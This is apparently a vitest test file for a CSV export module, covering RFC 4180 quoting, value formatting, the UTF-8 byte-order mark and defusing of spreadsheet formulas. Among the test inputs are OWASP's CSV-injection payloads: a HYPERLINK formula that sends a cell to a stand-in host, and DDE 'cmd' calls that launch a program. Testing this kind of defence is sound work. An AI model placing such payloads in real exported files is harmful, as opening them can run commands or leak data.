import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BYTE_ORDER_MARK, csvDocument, csvOf } from '../../shared/csv';

const withoutMark = (csv: string) => {
  expect(csv.startsWith(BYTE_ORDER_MARK)).toBe(true);
  return csv.slice(BYTE_ORDER_MARK.length);
};

describe('the CSV writer quotes as RFC 4180 says', () => {
  it('when no field needs quoting, then fields are bare, records end in CRLF, the last one too', () => {
    // RFC 4180 §2 rules 1–2 and 4: "aaa,bbb,ccc CRLF zzz,yyy,xxx CRLF"
    expect(withoutMark(csvDocument(['aaa', 'bbb', 'ccc'], [['zzz', 'yyy', 'xxx']]))).toBe(
      'aaa,bbb,ccc\r\nzzz,yyy,xxx\r\n',
    );
  });

  it('when a field holds a quote mark, a comma or a line break, then it is quoted and inner quotes are doubled', () => {
    // RFC 4180 §2 rule 7: "aaa","b""bb","ccc" — rule 6: "aaa","b CRLF bb","ccc"
    const csv = withoutMark(
      csvDocument(
        ['a', 'b', 'c'],
        [
          ['aaa', 'b"bb', 'ccc'],
          ['aaa', 'b\r\nbb', 'c,c'],
        ],
      ),
    );
    expect(csv).toBe('a,b,c\r\naaa,"b""bb",ccc\r\naaa,"b\r\nbb","c,c"\r\n');
    // and a reader gets the same fields back
    expect(Papa.parse<string[]>(csv.trimEnd(), { newline: '\r\n' }).data).toEqual([
      ['a', 'b', 'c'],
      ['aaa', 'b"bb', 'ccc'],
      ['aaa', 'b\r\nbb', 'c,c'],
    ]);
  });

  it('when a value is missing, a number, a date or an object, then it is empty, the number, ISO 8601 or JSON', () => {
    const csv = withoutMark(
      csvDocument(['n', 'x', 'd', 'o'], [[null, 12.5, new Date('2026-12-04T08:00:00Z'), { a: 1 }]]),
    );
    expect(csv).toBe('n,x,d,o\r\n,12.5,2026-12-04T08:00:00.000Z,"{""a"":1}"\r\n');
  });

  it('when rows are records, then csvOf writes the named columns in order', () => {
    const rows = [{ name: 'Ana', role: 'quality' }];
    const csv = csvOf(rows, [
      { header: 'Name', value: (r) => r.name },
      { header: 'Role', value: (r) => r.role.toUpperCase() },
    ]);
    expect(withoutMark(csv)).toBe('Name,Role\r\nAna,QUALITY\r\n');
  });
});

describe('the CSV writer neutralises formulas', () => {
  // OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells beginning with
  // = + - @ tab or carriage return are prefixed with a single quote and the field is quoted.
  // The payloads below are that page's examples.
  it('when a text cell starts with = + - @ tab or CR, then it gets a leading apostrophe and is quoted', () => {
    const cells = [
      '=HYPERLINK("http://example.invalid?x="&A1,"Error: please click")',
      '+1+2',
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '\t=1+2',
      '\r=1+2',
    ];
    const csv = withoutMark(
      csvDocument(
        ['cell'],
        cells.map((c) => [c]),
      ),
    );
    const back = Papa.parse<string[]>(csv.trimEnd(), { newline: '\r\n' }).data.slice(1);
    expect(back.map((r) => r[0])).toEqual(cells.map((c) => `'${c}`));
    for (const line of csv.split('\r\n').slice(1, 4)) expect(line.startsWith(`"'`)).toBe(true);
  });

  it('when a formula is followed by a line break, then it is neutralised all the same', () => {
    // papaparse's own escapeFormulae pattern (/^[=+\-@\t\r].*$/) lets this one through
    const csv = withoutMark(csvDocument(['cell'], [['=1+2\nsecond line']]));
    expect(csv).toBe(`cell\r\n"'=1+2\nsecond line"\r\n`);
  });

  it('when a cell is a number, a minus sign mid-text or an apostrophe already, then it is left as it is', () => {
    // a negative reading is a number, not a formula (common practice: only text cells are neutralised)
    const csv = withoutMark(csvDocument(['v', 't', 'q'], [[-0.002, 'Bore A-1', "'kept"]]));
    expect(csv).toBe("v,t,q\r\n-0.002,Bore A-1,'kept\r\n");
  });
});

describe('the CSV writer marks the file as UTF-8', () => {
  it('when any document is written, then it starts with the byte-order mark, EF BB BF in UTF-8, once', () => {
    // RFC 3629 §6: U+FEFF encoded in UTF-8 is the octets EF BB BF
    const csv = csvDocument(['Name'], [['Müller — TARN-6']]);
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.indexOf(BYTE_ORDER_MARK, 1)).toBe(-1);
    expect(csvDocument(['only'], [])).toBe(`${BYTE_ORDER_MARK}only\r\n`);
  });
});
